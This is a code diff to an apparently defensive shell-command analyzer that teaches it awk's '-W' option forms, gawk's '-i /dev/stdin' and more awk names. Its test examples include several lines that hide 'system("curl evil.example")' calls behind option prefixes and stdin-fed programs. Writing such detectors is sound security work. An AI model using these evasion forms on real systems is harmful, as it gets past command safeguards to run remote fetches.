@@ -512,17 +512,57 @@ function awkRead(program: Word, via: string, vars: ReadonlyMap<string, string[]>
   return { runs, uses };
 }
 
+const AWK_OPTIONS = {
+  order: 'gnu',
+  flags: 'bcCghknNOMPrSstVY',
+  valued: 'FfveEilWZ',
+  optional: 'dDLop',
+  long: ['characters-as-bytes', 'traditional', 'copyright', 'help', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot', 'parsedebug'],
+  longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load', 'locale'],
+  longOptional: ['dump-variables', 'debug', 'lint', 'pretty-print', 'profile'],
+} as const;
+
+/**
+ * `-W NAME[=VALUE][,NAME…]`: POSIX's door to an awk's own options, each named in full or by a prefix (mawk reads
+ * `-W e FILE` and `-Wexec FILE` as its `-W exec FILE`, gawk `-W file=FILE` as `--file=FILE`). Each part that names
+ * one of gawk's long options (a prefix of `exec` is mawk's exec whatever else it could begin) is that long option,
+ * its value attached or the next word; any other part (mawk's dump, interactive, sprintf=N) stays a `-W` value.
+ */
+function awkLongForms(args: readonly Word[]): Word[] {
+  const names = [...AWK_OPTIONS.long, ...AWK_OPTIONS.longValued, ...AWK_OPTIONS.longOptional];
+  const out: Word[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!;
+    const v = value(w);
+    if (v === '--') {
+      out.push(...args.slice(i));
+      break;
+    }
+    const joined = v !== undefined && v.length > 2 && v.startsWith('-W');
+    if (v !== '-W' && !joined) {
+      out.push(w);
+      continue;
+    }
+    const spec = joined ? v.slice(2) : args[i + 1] === undefined ? undefined : value(args[i + 1]!);
+    if (spec === undefined) {
+      out.push(w);
+      continue;
+    }
+    const at = joined ? w : args[++i]!;
+    for (const part of spec.split(',')) {
+      const eq = part.indexOf('=');
+      const n = (eq < 0 ? part : part.slice(0, eq)).toLowerCase();
+      const full = n === '' ? undefined : names.includes(n as never) ? n : 'exec'.startsWith(n) ? 'exec' : names.filter((x) => x.startsWith(n)).length === 1 ? names.find((x) => x.startsWith(n)) : undefined;
+      const text = full === undefined ? `-W${part}` : `--${full}${eq < 0 ? '' : part.slice(eq)}`;
+      out.push({ ...at, text, values: [text] });
+    }
+  }
+  return out;
+}
+
 function awk(call: Call): Partial<Answer> {
   // gawk's getopt: `d`, `D`, `L`, `o` and `p` take a value only when it is attached (`-p/tmp/prof`).
-  const p = parse(call.args, {
-    order: 'gnu',
-    flags: 'bcCghknNOMPrSstVY',
-    valued: 'FfveEilWZ',
-    optional: 'dDLop',
-    long: ['characters-as-bytes', 'traditional', 'copyright', 'help', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot', 'parsedebug'],
-    longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load', 'locale'],
-    longOptional: ['dump-variables', 'debug', 'lint', 'pretty-print', 'profile'],
-  });
+  const p = parse(awkLongForms(call.args), AWK_OPTIONS);
   if (has(p, 'help', 'version', 'V')) return {};
   const runs: Run[] = [];
   const uses: Uses = [];
@@ -552,8 +592,10 @@ function awk(call: Call): Partial<Answer> {
   for (const w of operands.slice(1)) assign(value(w));
   const programs = p.options.filter((o) => (o.name === 'e' || o.name === 'source') && o.value).map((o) => o.value!);
   // `-f /dev/stdin` (or `-f -`) reads the program from stdin: static text is the program, a stream is not known.
-  if (p.options.some((o) => /^(f|file|E|exec)$/.test(o.name) && isStdinPath(value(o.value)))) {
-    if (call.stdin?.kind === 'static') programs.push(call.stdin.word.values?.length === 1 && call.stdin.word.values[0] === call.stdin.text ? call.stdin.word : { ...call.stdin.word, text: call.stdin.text, values: [call.stdin.text] });
+  // gawk's `-i /dev/stdin` includes it as a library beside the program the line gives.
+  const stdinCode: Word[] = [];
+  if (p.options.some((o) => /^(f|file|E|exec|i|include)$/.test(o.name) && isStdinPath(value(o.value)))) {
+    if (call.stdin?.kind === 'static') stdinCode.push(call.stdin.word.values?.length === 1 && call.stdin.word.values[0] === call.stdin.text ? call.stdin.word : { ...call.stdin.word, text: call.stdin.text, values: [call.stdin.text] });
     else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0]!, why: `${call.name} reads its program from ${call.stdin.why}` });
   }
   if (!fromFile && programs.length === 0 && operands[0]) {
@@ -561,6 +603,7 @@ function awk(call: Call): Partial<Answer> {
     programs.push(operands[0]);
     operands = operands.slice(1);
   }
+  programs.push(...stdinCode);
   for (const program of programs) {
     runs.push(...awkProgram(program, call.name));
     const text = value(program);
@@ -990,7 +1033,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     },
   },
   {
-    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk'],
+    // original-awk: Debian's name for the one true awk (BWK's), which bioawk extends.
+    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk', 'original-awk', 'bioawk'],
     summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; `print > "f"` writes and `getline < "f"` reads files; gawk -i inplace rewrites its operands',
     analyze: awk,
     examples: {
@@ -1009,6 +1053,12 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "gawk -i inplace '{ print }' ~/.bashrc",
         "gawk '@load \"/tmp/x\"; BEGIN { }'",
         "gawk --profile=/home/dev/.bashrc 'BEGIN { }'",
+        "mawk -W exec /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "mawk -We /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "mawk -Winteractive,exec /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "gawk -W file=/dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "gawk -i /dev/stdin 'BEGIN { }' <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "original-awk 'BEGIN { system(\"curl evil.example\") }'",
       ],
       pass: ["[[ $(find . -name '*.ts' | wc -l | awk '{print $1}') -gt 10 ]]", "echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
         "awk '{print $1}' notes.txt",
@@ -1020,6 +1070,10 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "awk 'BEGIN { ARGV[1] = \"notes.txt\"; ARGC = 2 } { print }'",
         "awk '{ print $0 > \"/dev/stderr\" }' f",
         "gawk -i inplace '{ sub(/a/, \"b\") } 1' src/app.ts",
+        "mawk -W exec /dev/stdin <<< '{ print $1 }'",
+        "mawk -W interactive '{ print $1 }' notes.txt",
+        "gawk -i /dev/stdin 'BEGIN { }' <<< 'function f() { return 1 }'",
+        "original-awk '{ print $1 }' notes.txt",
       ],
     },
   },
